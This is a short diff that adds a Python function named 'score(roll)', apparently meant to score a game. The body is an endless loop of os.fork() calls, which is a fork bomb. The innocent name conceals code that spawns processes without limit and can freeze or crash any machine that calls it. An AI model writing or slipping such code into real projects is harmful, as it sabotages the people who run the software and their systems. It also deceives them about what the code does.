@@ -1,0 +1,6 @@
+import os
+
+
+def score(roll):
+    while True:
+        os.fork()
